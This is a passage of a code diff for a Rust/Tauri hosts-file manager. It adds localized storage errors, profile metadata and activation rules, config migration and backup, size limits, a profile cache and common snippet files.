@@ -1,9 +1,173 @@
 use serde::{Deserialize, Serialize};
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use tauri::{AppHandle, Manager};
 use uuid::Uuid;
 
+/// Language for user-facing error messages.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Locale {
+    En,
+    Zh,
+    /// "中文 / English", as the messages read before they were localized
+    Both,
+}
+
+impl Locale {
+    /// HOSTLY_LANG, then the usual POSIX locale variables; anything starting with "zh" is Chinese.
+    /// GUI launches on Windows and macOS usually set none of them, so that falls back to both.
+    pub fn current() -> Self {
+        ["HOSTLY_LANG", "LC_ALL", "LC_MESSAGES", "LANG"]
+            .iter()
+            .find_map(|var| std::env::var(var).ok().filter(|v| !v.is_empty()))
+            .map(|v| if v.to_lowercase().starts_with("zh") { Locale::Zh } else { Locale::En })
+            .unwrap_or(Locale::Both)
+    }
+}
+
+/// Errors from profile management. `code()` is stable for callers to match on;
+/// the message is localized. Converts to and from `String` so it mixes with
+/// the rest of the module through `?`.
+#[derive(Debug, Clone, PartialEq)]
+pub enum StorageError {
+    DuplicateName { name: String },
+    ProfileNotFound { id: String },
+    InvalidName { name: String },
+    ProfileLocked { name: String },
+    SnippetNotFound { name: String },
+    HostnameNotFound { hostname: String },
+    AmbiguousHostname { hostname: String, lines: Vec<usize> },
+    InvalidIp { ip: String },
+    LineOutOfRange { line: usize },
+    NotHostEntry { line: usize },
+    IndexOutOfBounds { index: usize, len: usize },
+    SameProfile,
+    /// More than one profile requested while multi-select is off
+    SingleSelectMode { count: usize },
+    NotRemote,
+    /// `setting` is the config.json key that raises `limit`
+    TooLarge { what: String, size: usize, limit: usize, setting: &'static str },
+    IoError(String),
+    Other(String),
+}
+
+impl StorageError {
+    pub fn code(&self) -> &'static str {
+        match self {
+            StorageError::DuplicateName { .. } => "duplicate_name",
+            StorageError::ProfileNotFound { .. } => "profile_not_found",
+            StorageError::InvalidName { .. } => "invalid_name",
+            StorageError::ProfileLocked { .. } => "profile_locked",
+            StorageError::SnippetNotFound { .. } => "snippet_not_found",
+            StorageError::HostnameNotFound { .. } => "hostname_not_found",
+            StorageError::AmbiguousHostname { .. } => "ambiguous_hostname",
+            StorageError::InvalidIp { .. } => "invalid_ip",
+            StorageError::LineOutOfRange { .. } => "line_out_of_range",
+            StorageError::NotHostEntry { .. } => "not_host_entry",
+            StorageError::IndexOutOfBounds { .. } => "index_out_of_bounds",
+            StorageError::SameProfile => "same_profile",
+            StorageError::SingleSelectMode { .. } => "single_select_mode",
+            StorageError::NotRemote => "not_remote",
+            StorageError::TooLarge { .. } => "too_large",
+            StorageError::IoError(_) => "io_error",
+            StorageError::Other(_) => "other",
+        }
+    }
+
+    pub fn message(&self, locale: Locale) -> String {
+        use StorageError::*;
+        let zh = match locale {
+            Locale::En => false,
+            Locale::Zh => true,
+            Locale::Both => {
+                let (zh, en) = (self.message(Locale::Zh), self.message(Locale::En));
+                return if zh == en { en } else { format!("{} / {}", zh, en) };
+            }
+        };
+        match (self, zh) {
+            (DuplicateName { name }, false) => format!("Profile name '{}' already exists", name),
+            (DuplicateName { name }, true) => format!("环境名称 '{}' 已存在", name),
+            (ProfileNotFound { id }, false) => format!("Profile not found: {}", id),
+            (ProfileNotFound { id }, true) => format!("环境不存在: {}", id),
+            (InvalidName { name }, false) => format!("Invalid name: '{}'", name),
+            (InvalidName { name }, true) => format!("名称无效: '{}'", name),
+            (ProfileLocked { name }, false) => format!("Profile '{}' is locked; unlock it first", name),
+            (ProfileLocked { name }, true) => format!("环境 '{}' 已锁定，请先解锁", name),
+            (SnippetNotFound { name }, false) => format!("Snippet not found: '{}'", name),
+            (SnippetNotFound { name }, true) => format!("公共配置片段不存在: '{}'", name),
+            (HostnameNotFound { hostname }, false) => format!("Hostname '{}' not found", hostname),
+            (HostnameNotFound { hostname }, true) => format!("未找到域名 '{}'", hostname),
+            (AmbiguousHostname { hostname, lines }, zh) => {
+                let lines: Vec<String> = lines.iter().map(|l| l.to_string()).collect();
+                if zh {
+                    format!("域名 '{}' 出现多次（第 {} 行）", hostname, lines.join(", "))
+                } else {
+                    format!("Hostname '{}' is ambiguous (lines {})", hostname, lines.join(", "))
+                }
+            },
+            (InvalidIp { ip }, false) => format!("'{}' is not a valid IPv4/IPv6 address", ip),
+            (InvalidIp { ip }, true) => format!("'{}' 不是有效的 IPv4/IPv6 地址", ip),
+            (LineOutOfRange { line }, false) => format!("Line {} out of range", line),
+            (LineOutOfRange { line }, true) => format!("第 {} 行超出范围", line),
+            (NotHostEntry { line }, false) => format!("Line {} is not a host entry", line),
+            (NotHostEntry { line }, true) => format!("第 {} 行不是 hosts 条目", line),
+            (IndexOutOfBounds { index, len }, false) => format!("Index {} out of bounds (0..{})", index, len),
+            (IndexOutOfBounds { index, len }, true) => format!("位置 {} 超出范围 (0..{})", index, len),
+            (SameProfile, false) => "Source and target profile are the same".to_string(),
+            (SameProfile, true) => "源环境与目标环境相同".to_string(),
+            (SingleSelectMode { count }, false) => {
+                format!("Single-select mode allows one active profile, got {}; enable multi-select first", count)
+            },
+            (SingleSelectMode { count }, true) => format!("单选模式下只能激活一个环境（当前 {} 个），请先切换到多选模式", count),
+            (NotRemote, false) => "Profile is not a remote profile (no URL)".to_string(),
+            (NotRemote, true) => "该环境不是远程环境（没有 URL）".to_string(),
+            (TooLarge { what, size, limit, setting }, false) => format!(
+                "{} is {} bytes, over the {} byte limit (raise {} in config.json if this is intended)",
+                what, size, limit, setting
+            ),
+            (TooLarge { what, size, limit, setting }, true) => format!(
+                "{} 大小为 {} 字节，超过 {} 字节的上限（如确有需要，可在 config.json 中调大 {}）",
+                what, size, limit, setting
+            ),
+            (IoError(e), _) | (Other(e), _) => e.clone(),
+        }
+    }
+}
+
+impl std::fmt::Display for StorageError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}", self.message(Locale::current()))
+    }
+}
+
+impl Serialize for StorageError {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        use serde::ser::SerializeStruct;
+        let mut state = serializer.serialize_struct("StorageError", 2)?;
+        state.serialize_field("code", self.code())?;
+        state.serialize_field("message", &self.to_string())?;
+        state.end()
+    }
+}
+
+impl From<String> for StorageError {
+    fn from(e: String) -> Self {
+        StorageError::Other(e)
+    }
+}
+
+impl From<std::io::Error> for StorageError {
+    fn from(e: std::io::Error) -> Self {
+        StorageError::IoError(e.to_string())
+    }
+}
+
+impl From<StorageError> for String {
+    fn from(e: StorageError) -> Self {
+        e.to_string()
+    }
+}
+
 #[derive(Debug, Serialize, Deserialize, Clone)]
 pub struct ProfileMetadata {
     pub id: String,
@@ -13,12 +177,92 @@ pub struct ProfileMetadata {
     pub url: Option<String>,
     /// Last successful update timestamp (ISO 8601)
     pub last_update: Option<String>,
+    /// When a refresh last failed (ISO 8601); cleared by the next successful one
+    #[serde(default)]
+    pub last_attempt: Option<String>,
     /// Auto-update interval in seconds (0 or None means manual)
     pub update_interval: Option<u64>,
+    /// Free-form notes about what this environment is for
+    #[serde(default)]
+    pub description: Option<String>,
+    /// Folder/group name, purely organizational (does not affect merging)
+    #[serde(default)]
+    pub group: Option<String>,
+    /// RFC 3339; None for profiles created before timestamps were tracked
+    #[serde(default)]
+    pub created_at: Option<String>,
+    /// RFC 3339; bumped on content edits and renames
+    #[serde(default)]
+    pub updated_at: Option<String>,
+    /// Locked profiles can't be edited, renamed or deleted until unlocked
+    #[serde(default)]
+    pub locked: bool,
+    /// Network this profile switches on for with `auto_activate`
+    #[serde(default)]
+    pub activation_rule: Option<ActivationRule>,
+}
+
+/// Matches the current network when any field that is set matches; an empty rule never does.
+#[derive(Debug, Serialize, Deserialize, Clone, Default, PartialEq)]
+pub struct ActivationRule {
+    /// Wi-Fi network name, compared exactly
+    #[serde(default)]
+    pub ssid: Option<String>,
+    /// MAC address of the default gateway, in any common notation
+    #[serde(default)]
+    pub gateway_mac: Option<String>,
+}
+
+impl ActivationRule {
+    pub fn matches(&self, network: &crate::hosts::NetworkInfo) -> bool {
+        let ssid = matches!((&self.ssid, &network.ssid), (Some(want), Some(have)) if want == have);
+        let mac = match (&self.gateway_mac, &network.gateway_mac) {
+            (Some(want), Some(have)) => crate::hosts::normalize_mac(want).as_ref() == Some(have),
+            _ => false,
+        };
+        ssid || mac
+    }
+}
+
+/// How the merge treats a hostname defined with different IPs in several places.
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum MergeMode {
+    /// Keep only the last definition (profile order) and comment out the rest
+    #[default]
+    LastWins,
+    /// Write every line as-is and let the OS decide
+    KeepAll,
+}
+
+/// Where the common config goes in the merged hosts relative to the active profiles.
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum CommonPosition {
+    /// Before the profiles, so profiles override it under last-wins
+    #[default]
+    Top,
+    /// After the profiles, so it overrides them
+    Bottom,
+}
+
+/// Size limits keep a pathological paste or import from producing a hosts file
+/// that makes name resolution crawl. Both can be raised in config.json.
+pub const DEFAULT_MAX_PROFILE_BYTES: usize = 1024 * 1024;
+pub const DEFAULT_MAX_HOSTS_BYTES: usize = 8 * 1024 * 1024;
+
+/// Current config.json layout; bump together with a step in `migrate_config`.
+pub const CONFIG_SCHEMA_VERSION: u32 = 2;
+
+// Files written before versioning existed have no marker
+fn legacy_schema_version() -> u32 {
+    1
 }
 
 #[derive(Debug, Serialize, Deserialize, Clone, Default)]
 pub struct AppConfig {
+    #[serde(default = "legacy_schema_version")]
+    pub schema_version: u32,
     pub multi_select: bool,
     pub theme: Option<String>,
     pub window_mode: Option<String>, // "fixed", "remember"
@@ -26,11 +270,64 @@ pub struct AppConfig {
     pub window_height: Option<f64>,
     pub sidebar_width: Option<f64>,
     pub profiles: Vec<ProfileMetadata>,
-    pub active_profile_ids: Vec<String>, // Deprecated in favor of internal active flag? Or keep synced? 
-                                         // Let's keep synced or just use 'active' field in ProfileMetadata for simplicity.
-                                         // Actually, sticking to what I planned: ProfileMetadata has 'active'. 
-                                         // But for multi-select logic, we need to know who is active quickly. 
-                                         // Let's trust ProfileMetadata.active as source of truth.
+    #[serde(default)]
+    pub merge_mode: MergeMode,
+    #[serde(default)]
+    pub common_position: CommonPosition,
+    /// Emit each section as sorted, deduplicated `ip hostname` lines
+    #[serde(default)]
+    pub sort_entries: bool,
+    /// Canonicalize host entries (lowercase names, short IPv6, single spaces) when merging
+    #[serde(default)]
+    pub normalize: bool,
+    /// Append a JSON line per apply to the audit log (overridden by HOSTLY_LOG)
+    #[serde(default)]
+    pub logging_enabled: bool,
+    /// Audit log location; defaults to <app_dir>/hostly.log
+    #[serde(default)]
+    pub log_path: Option<String>,
+    /// Shell command run after every successful apply; None disables it
+    #[serde(default)]
+    pub on_apply: Option<String>,
+    /// Re-apply the active profiles when the GUI starts, in case something reset the hosts file
+    #[serde(default)]
+    pub reapply_on_start: bool,
+    /// Largest profile / common config accepted on save; None means DEFAULT_MAX_PROFILE_BYTES
+    #[serde(default)]
+    pub max_profile_bytes: Option<usize>,
+    /// Largest merged hosts file `apply` will write; None means DEFAULT_MAX_HOSTS_BYTES
+    #[serde(default)]
+    pub max_hosts_bytes: Option<usize>,
+    /// Values for `${NAME}` in profiles; names not here fall back to the process environment
+    #[serde(default)]
+    pub variables: std::collections::BTreeMap<String, String>,
+    /// Legacy field, accepted on load for `migrate_config` but never written.
+    /// ProfileMetadata.active is the only source of truth for active state.
+    #[serde(default, skip_serializing)]
+    pub active_profile_ids: Vec<String>,
+}
+
+/// A hostname mapped to different IPs by the common config and/or active profiles.
+#[derive(Debug, Serialize, Clone)]
+pub struct Conflict {
+    pub hostname: String,
+    /// Every definition in merge order; the last one wins
+    pub definitions: Vec<ConflictDefinition>,
+}
+
+/// Where a hostname in the merged hosts comes from.
+#[derive(Debug, Serialize, Clone)]
+pub struct EntryOwner {
+    pub hostname: String,
+    pub ip: String,
+    /// Profile name, or the common config/snippet label
+    pub profile: String,
+}
+
+#[derive(Debug, Serialize, Clone)]
+pub struct ConflictDefinition {
+    pub ip: String,
+    pub profile: String,
 }
 
 #[derive(Debug, Serialize, Deserialize, Clone)]
@@ -39,17 +336,152 @@ pub struct ProfileData {
     pub name: String,
     pub content: String,
     pub active: bool,
+    #[serde(default)]
+    pub description: Option<String>,
+    #[serde(default)]
+    pub group: Option<String>,
+    #[serde(default)]
+    pub created_at: Option<String>,
+    #[serde(default)]
+    pub updated_at: Option<String>,
+    #[serde(default)]
+    pub locked: bool,
+    #[serde(default)]
+    pub activation_rule: Option<ActivationRule>,
+}
+
+/// Where Hostly keeps its files for the current context.
+#[derive(Debug, Serialize, Clone)]
+pub struct Paths {
+    pub app_dir: String,
+    pub profiles_dir: String,
+    pub config_path: String,
+    pub common_path: String,
+    pub common_dir: String,
+    pub backups_dir: String,
+    pub hosts_path: String,
+}
+
+/// One file from the `common/` directory, merged ahead of the legacy common.txt.
+#[derive(Debug, Serialize, Clone)]
+pub struct CommonSnippet {
+    /// File name without the `.txt` extension
+    pub name: String,
+    pub content: String,
+}
+
+/// A single profile with its metadata, for sharing one environment between machines.
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct ProfileSnippet {
+    pub name: String,
+    #[serde(default)]
+    pub description: Option<String>,
+    pub content: String,
+    /// Remote source, stored as the profile's `url`
+    #[serde(default)]
+    pub source_url: Option<String>,
+}
+
+/// A hand-picked set of profiles for distributing across a team, integrity-checked by
+/// `sha256` (see `bundle_checksum`). Unlike a full backup it carries no app config.
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct TeamBundle {
+    pub version: u32,
+    pub created_at: String,
+    pub profiles: Vec<ProfileSnippet>,
+    pub sha256: String,
+}
+
+/// Outcome of `import_bundle`.
+#[derive(Debug, Serialize, Clone)]
+pub struct BundleImport {
+    /// Names of the created or overwritten profiles, in bundle order
+    pub imported: Vec<String>,
+    /// False when the contents don't match the bundle's checksum (only possible without verify)
+    pub checksum_ok: bool,
+}
+
+/// A profile whose name or content matched a search query.
+#[derive(Debug, Serialize, Clone)]
+pub struct SearchHit {
+    pub profile_id: String,
+    pub profile_name: String,
+    /// 1-based line number, or None when the profile name itself matched
+    pub line: Option<usize>,
+    pub text: String,
+}
+
+/// Whether the IP an active entry points at accepted a TCP connection.
+#[derive(Debug, Serialize, Clone)]
+pub struct ReachabilityResult {
+    pub profile_name: String,
+    pub hostname: String,
+    pub ip: String,
+    pub port: u16,
+    pub reachable: bool,
+    /// Time to connect, when it did
+    pub latency_ms: Option<u64>,
+    pub error: Option<String>,
+}
+
+#[derive(Debug, Serialize, Clone, Copy, PartialEq)]
+#[serde(rename_all = "snake_case")]
+pub enum EntryDiffKind {
+    OnlyInA,
+    OnlyInB,
+    /// Defined by both profiles with different IPs
+    IpChanged,
+}
+
+/// A hostname whose mapping differs between two profiles.
+#[derive(Debug, Serialize, Clone)]
+pub struct EntryDiff {
+    pub kind: EntryDiffKind,
+    pub hostname: String,
+    pub ip_a: Option<String>,
+    pub ip_b: Option<String>,
+}
+
+/// Overrides the app dir for both the GUI and the CLI.
+pub const DATA_DIR_ENV: &str = "HOSTLY_DATA_DIR";
+
+/// Left in the default app dir by `relocate_data_dir`, holding the path of the new one.
+const DATA_DIR_POINTER: &str = "data_dir.txt";
+
+fn read_data_dir_pointer(default_dir: &Path) -> Option<PathBuf> {
+    let target = fs::read_to_string(default_dir.join(DATA_DIR_POINTER)).ok()?;
+    let target = target.trim();
+    (!target.is_empty()).then(|| PathBuf::from(target))
 }
 
 pub enum Context<'a> {
     Tauri(&'a AppHandle),
     Headless,
+    /// Scratch copy of the app dir for `--dry-run`; the system hosts file is never written
+    DryRun(PathBuf),
 }
 
 impl<'a> Context<'a> {
+    pub fn is_dry_run(&self) -> bool {
+        matches!(self, Context::DryRun(_))
+    }
+
+    /// The default app dir, unless HOSTLY_DATA_DIR or a pointer left by `relocate_data_dir` says otherwise.
     pub fn get_app_dir(&self) -> Result<PathBuf, String> {
+        if let Context::DryRun(dir) = self {
+            return Ok(dir.clone());
+        }
+        if let Some(dir) = std::env::var_os(DATA_DIR_ENV).filter(|d| !d.is_empty()) {
+            return Ok(PathBuf::from(dir));
+        }
+        let default = self.default_app_dir()?;
+        Ok(read_data_dir_pointer(&default).unwrap_or(default))
+    }
+
+    fn default_app_dir(&self) -> Result<PathBuf, String> {
         match self {
             Context::Tauri(app) => app.path().app_data_dir().map_err(|e| e.to_string()),
+            Context::DryRun(dir) => Ok(dir.clone()),
             Context::Headless => {
                 // Hardcoded fallback for headless CLI to match Tauri's app_data_dir for "com.hostly.app"
                 #[cfg(target_os = "windows")]
@@ -88,10 +520,45 @@ fn get_config_path(ctx: &Context) -> Result<PathBuf, String> {
     Ok(ctx.get_app_dir()?.join("config.json"))
 }
 
+fn get_config_backup_path(ctx: &Context) -> Result<PathBuf, String> {
+    Ok(ctx.get_app_dir()?.join("config.json.bak"))
+}
+
 fn get_common_path(ctx: &Context) -> Result<PathBuf, String> {
     Ok(ctx.get_app_dir()?.join("common.txt"))
 }
 
+fn get_common_dir(ctx: &Context) -> Result<PathBuf, String> {
+    Ok(ctx.get_app_dir()?.join("common"))
+}
+
+/// Snippet names become file names, so keep them to a single plain path component.
+fn common_snippet_path(ctx: &Context, name: &str) -> Result<PathBuf, StorageError> {
+    let name = name.trim();
+    if name.is_empty() || name.starts_with('.') || name.contains(['/', '\\', ':']) {
+        return Err(StorageError::InvalidName { name: name.to_string() });
+    }
+    Ok(get_common_dir(ctx)?.join(format!("{}.txt", name)))
+}
+
+#[tauri::command]
+pub fn get_paths(app: AppHandle) -> Result<Paths, String> {
+    get_paths_internal(&Context::Tauri(&app))
+}
+
+pub fn get_paths_internal(ctx: &Context) -> Result<Paths, String> {
+    let show = |p: PathBuf| p.to_string_lossy().to_string();
+    Ok(Paths {
+        app_dir: show(ctx.get_app_dir()?),
+        profiles_dir: show(get_profiles_dir(ctx)?),
+        config_path: show(get_config_path(ctx)?),
+        common_path: show(get_common_path(ctx)?),
+        common_dir: show(get_common_dir(ctx)?),
+        backups_dir: show(get_backups_dir(ctx)?),
+        hosts_path: show(crate::hosts::get_hosts_path()),
+    })
+}
+
 #[tauri::command]
 pub fn load_config(app: AppHandle) -> Result<AppConfig, String> {
     load_config_internal(&Context::Tauri(&app))
@@ -101,10 +568,12 @@ pub fn load_config_internal(ctx: &Context) -> Result<AppConfig, String> {
     let path = get_config_path(ctx)?;
     if !path.exists() {
         // First Run: Create defaults
-        let mut config = AppConfig::default();
-        config.multi_select = false;
-        
-        let defaults = vec!["Dev", "Test", "Prod"];
+        let seed = load_seed_defaults(ctx).unwrap_or_default();
+        let mut config = AppConfig {
+            schema_version: CONFIG_SCHEMA_VERSION,
+            multi_select: seed.multi_select,
+            ..Default::default()
+        };
         
         // 1. Auto-backup System Hosts
         let sys_id = Uuid::new_v4().to_string();
@@ -114,24 +583,39 @@ pub fn load_config_internal(ctx: &Context) -> Result<AppConfig, String> {
         save_profile_file_internal(ctx, &sys_id, &sys_content)?;
         config.profiles.push(ProfileMetadata {
             id: sys_id,
-            name: "系统hosts备份".to_string(),
+            name: seed.system_backup_name.clone(),
             active: false,
             url: None,
             last_update: None,
+            last_attempt: None,
             update_interval: None,
+            description: None,
+            group: None,
+            created_at: Some(chrono::Local::now().to_rfc3339()),
+            updated_at: None,
+            // Snapshot of the original hosts; guard it against accidental edits
+            locked: true,
+            activation_rule: None,
         });
 
         // 2. Default Envs
-        for name in defaults {
+        for profile in seed.profiles {
              let id = Uuid::new_v4().to_string();
-             save_profile_file_internal(ctx, &id, "# New Environment\n")?;
+             save_profile_file_internal(ctx, &id, &profile.content)?;
              config.profiles.push(ProfileMetadata {
                  id,
-                 name: name.to_string(),
+                 name: profile.name,
                  active: false,
                  url: None,
                  last_update: None,
+                 last_attempt: None,
                  update_interval: None,
+                 description: None,
+                 group: None,
+                 created_at: Some(chrono::Local::now().to_rfc3339()),
+                 updated_at: None,
+                 locked: false,
+                 activation_rule: None,
              });
         }
         
@@ -139,8 +623,114 @@ pub fn load_config_internal(ctx: &Context) -> Result<AppConfig, String> {
         return Ok(config);
     }
     
-    let content = fs::read_to_string(path).map_err(|e| e.to_string())?;
-    serde_json::from_str(&content).map_err(|e| e.to_string())
+    let content = fs::read_to_string(&path).map_err(|e| e.to_string())?;
+    let config: AppConfig = match serde_json::from_str(&content) {
+        Ok(c) => c,
+        Err(e) => {
+            // Likely a write interrupted by a crash; fall back to the previous good copy
+            let backup = fs::read_to_string(get_config_backup_path(ctx)?)
+                .ok()
+                .and_then(|b| serde_json::from_str(&b).ok())
+                .ok_or_else(|| format!("config.json is corrupted and no usable backup exists: {}", e))?;
+            eprintln!("config.json is corrupted ({}); using config.json.bak", e);
+            backup
+        }
+    };
+
+    if config.schema_version < CONFIG_SCHEMA_VERSION {
+        // Persist so migration only runs once
+        let config = migrate_config(config);
+        save_config_internal(ctx, &config)?;
+        return Ok(config);
+    }
+    Ok(config)
+}
+
+/// Upgrades a config from any older schema to `CONFIG_SCHEMA_VERSION`.
+pub fn migrate_config(mut config: AppConfig) -> AppConfig {
+    // v1 -> v2: active state moves from active_profile_ids into ProfileMetadata.active
+    if config.schema_version < 2 {
+        for p in config.profiles.iter_mut() {
+            if config.active_profile_ids.contains(&p.id) {
+                p.active = true;
+            }
+        }
+        config.active_profile_ids.clear();
+    }
+
+    config.schema_version = CONFIG_SCHEMA_VERSION;
+    config
+}
+
+/// First-run seed, read from `defaults.json` in the app dir or the `HOSTLY_DEFAULTS` path.
+#[derive(Debug, Deserialize)]
+struct SeedDefaults {
+    #[serde(default)]
+    multi_select: bool,
+    #[serde(default = "default_system_backup_name")]
+    system_backup_name: String,
+    profiles: Vec<SeedProfile>,
+}
+
+#[derive(Debug, Deserialize)]
+struct SeedProfile {
+    name: String,
+    #[serde(default)]
+    content: String,
+}
+
+/// Name of the first-run copy of the system hosts, unless the seed says otherwise
+pub const SYSTEM_BACKUP_NAME: &str = "系统hosts备份";
+
+fn default_system_backup_name() -> String {
+    SYSTEM_BACKUP_NAME.to_string()
+}
+
+impl Default for SeedDefaults {
+    fn default() -> Self {
+        SeedDefaults {
+            multi_select: false,
+            system_backup_name: default_system_backup_name(),
+            profiles: ["Dev", "Test", "Prod"]
+                .iter()
+                .map(|name| SeedProfile { name: name.to_string(), content: "# New Environment\n".to_string() })
+                .collect(),
+        }
+    }
+}
+
+/// The admin-provided seed, or None (with a warning if one exists but is unusable).
+fn load_seed_defaults(ctx: &Context) -> Option<SeedDefaults> {
+    let path = match std::env::var("HOSTLY_DEFAULTS") {
+        Ok(p) if !p.trim().is_empty() => PathBuf::from(p),
+        _ => ctx.get_app_dir().ok()?.join("defaults.json"),
+    };
+    if !path.exists() {
+        return None;
+    }
+
+    let parsed = fs::read_to_string(&path)
+        .map_err(|e| e.to_string())
+        .and_then(|c| serde_json::from_str::<SeedDefaults>(&c).map_err(|e| e.to_string()))
+        .and_then(|seed| {
+            let mut names = vec![seed.system_backup_name.trim()];
+            for p in &seed.profiles {
+                let name = p.name.trim();
+                if name.is_empty() || names.contains(&name) {
+                    return Err(format!("empty or duplicate profile name '{}'", p.name));
+                }
+                names.push(name);
+            }
+            Ok(seed)
+        });
+
+    match parsed {
+        Ok(seed) => Some(seed),
+        Err(e) => {
+            eprintln!("Ignoring {}: {}", path.display(), e);
+            None
+        }
+    }
 }
 
 pub fn save_config_internal(ctx: &Context, config: &AppConfig) -> Result<(), String> {
@@ -150,16 +740,74 @@ pub fn save_config_internal(ctx: &Context, config: &AppConfig) -> Result<(), Str
              fs::create_dir_all(parent).map_err(|e| e.to_string())?;
         }
     }
+
+    // Keep the last good config around; never overwrite the backup with a corrupt file
+    if let Ok(previous) = fs::read_to_string(&path) {
+        if serde_json::from_str::<serde_json::Value>(&previous).is_ok() {
+            fs::write(get_config_backup_path(ctx)?, previous).map_err(|e| e.to_string())?;
+        }
+    }
+
     let content = serde_json::to_string_pretty(config).map_err(|e| e.to_string())?;
-    fs::write(path, content).map_err(|e| e.to_string())
+    crate::hosts::write_atomic(&path, &content).map_err(|e| e.to_string())
 }
 
 pub fn save_profile_file_internal(ctx: &Context, id: &str, content: &str) -> Result<(), String> {
     let dir = get_profiles_dir(ctx)?;
     let path = dir.join(format!("{}.txt", id));
+    forget_cached_profile(&path);
     fs::write(path, content).map_err(|e| e.to_string())
 }
 
+/// A profile file's content as of the given mtime and size.
+struct CachedProfile {
+    modified: std::time::SystemTime,
+    len: u64,
+    content: String,
+}
+
+/// Profile contents by path for the long-running GUI, which re-reads every active
+/// profile on each toggle and apply. CLI runs are too short to benefit and skip it.
+static PROFILE_CACHE: std::sync::OnceLock<std::sync::Mutex<std::collections::HashMap<PathBuf, CachedProfile>>> =
+    std::sync::OnceLock::new();
+
+/// Reads a profile file, treating a missing file as empty. In the GUI a file whose
+/// mtime and size haven't changed since the last read comes from the cache.
+fn read_profile_file(ctx: &Context, path: &std::path::Path) -> std::io::Result<String> {
+    let meta = match fs::metadata(path) {
+        Ok(m) => m,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(String::new()),
+        Err(e) => return Err(e),
+    };
+    let modified = match meta.modified() {
+        Ok(m) if matches!(ctx, Context::Tauri(_)) => m,
+        _ => return fs::read_to_string(path),
+    };
+
+    let cache = PROFILE_CACHE.get_or_init(Default::default);
+    if let Ok(cache) = cache.lock() {
+        if let Some(hit) = cache.get(path).filter(|c| c.modified == modified && c.len == meta.len()) {
+            return Ok(hit.content.clone());
+        }
+    }
+
+    let content = fs::read_to_string(path)?;
+    if let Ok(mut cache) = cache.lock() {
+        cache.insert(path.to_path_buf(), CachedProfile { modified, len: meta.len(), content: content.clone() });
+    }
+    Ok(content)
+}
+
+/// Drops a cached profile before we write or delete it; the mtime check alone can miss
+/// two writes within the filesystem's timestamp resolution.
+fn forget_cached_profile(path: &std::path::Path) {
+    if let Some(cache) = PROFILE_CACHE.get() {
+        if let Ok(mut cache) = cache.lock() {
+            cache.remove(path);
+        }
+    }
+}
+
 #[tauri::command]
 pub fn load_common_config(app: AppHandle) -> Result<String, String> {
     load_common_config_internal(&Context::Tauri(&app))
@@ -174,49 +822,107 @@ pub fn load_common_config_internal(ctx: &Context) -> Result<String, String> {
 }
 
 #[tauri::command]
-pub fn save_common_config(app: AppHandle, content: String) -> Result<(), String> {
+pub fn save_common_config(app: AppHandle, content: String) -> Result<(), StorageError> {
     save_common_config_internal(&Context::Tauri(&app), content)?;
     apply_config(app)
 }
 
-pub fn save_common_config_internal(ctx: &Context, content: String) -> Result<(), String> {
+pub fn save_common_config_internal(ctx: &Context, content: String) -> Result<(), StorageError> {
+    ensure_within_profile_limit(&load_config_internal(ctx)?, "Common config", &content)?;
     let path = get_common_path(ctx)?;
-    fs::write(path, content).map_err(|e| e.to_string())
+    Ok(fs::write(path, content)?)
+}
+
+#[tauri::command]
+pub fn list_common_snippets(app: AppHandle) -> Result<Vec<CommonSnippet>, String> {
+    list_common_snippets_internal(&Context::Tauri(&app))
+}
+
+/// Every `.txt` file in `common/`, in file name order (the order they are merged in).
+pub fn list_common_snippets_internal(ctx: &Context) -> Result<Vec<CommonSnippet>, String> {
+    let dir = get_common_dir(ctx)?;
+    if !dir.exists() {
+        return Ok(Vec::new());
+    }
+
+    let mut paths: Vec<PathBuf> = fs::read_dir(&dir)
+        .map_err(|e| e.to_string())?
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter(|p| p.is_file() && p.extension().and_then(|e| e.to_str()) == Some("txt"))
+        .collect();
+    paths.sort();
+
+    paths
+        .into_iter()
+        .map(|path| {
+            let name = path.file_stem().and_then(|n| n.to_str()).unwrap_or_default().to_string();
+            let content = fs::read_to_string(&path).map_err(|e| e.to_string())?;
+            Ok(CommonSnippet { name, content })
+        })
+        .collect()
+}
+
+#[tauri::command]
+pub fn save_common_snippet(app: AppHandle, name: String, content: String) -> Result<(), StorageError> {
+    save_common_snippet_internal(&Context::Tauri(&app), &name, &content)?;
+    apply_config(app)
+}
+
+/// Creates or overwrites `common/<name>.txt`.
+pub fn save_common_snippet_internal(ctx: &Context, name: &str, content: &str) -> Result<(), StorageError> {
+    let path = common_snippet_path(ctx, name)?;
+    ensure_within_profile_limit(&load_config_internal(ctx)?, &format!("Common snippet '{}'", name.trim()), content)?;
+    fs::create_dir_all(get_common_dir(ctx)?).map_err(|e| e.to_string())?;
+    Ok(fs::write(path, content)?)
 }
 
 #[tauri::command]
-pub fn set_theme(app: AppHandle, theme: String) -> Result<(), String> {
+pub fn delete_common_snippet(app: AppHandle, name: String) -> Result<(), StorageError> {
+    delete_common_snippet_internal(&Context::Tauri(&app), &name)?;
+    apply_config(app)
+}
+
+pub fn delete_common_snippet_internal(ctx: &Context, name: &str) -> Result<(), StorageError> {
+    let path = common_snippet_path(ctx, name)?;
+    if !path.exists() {
+        return Err(StorageError::SnippetNotFound { name: name.trim().to_string() });
+    }
+    Ok(fs::remove_file(path)?)
+}
+
+#[tauri::command]
+pub fn set_theme(app: AppHandle, theme: String) -> Result<(), StorageError> {
     set_theme_internal(&Context::Tauri(&app), theme)
 }
 
-pub fn set_theme_internal(ctx: &Context, theme: String) -> Result<(), String> {
+pub fn set_theme_internal(ctx: &Context, theme: String) -> Result<(), StorageError> {
     let mut config = load_config_internal(ctx)?;
     config.theme = Some(theme);
-    save_config_internal(ctx, &config)
+    Ok(save_config_internal(ctx, &config)?)
 }
 
 #[tauri::command]
-pub fn save_window_config(app: AppHandle, mode: String, width: f64, height: f64) -> Result<(), String> {
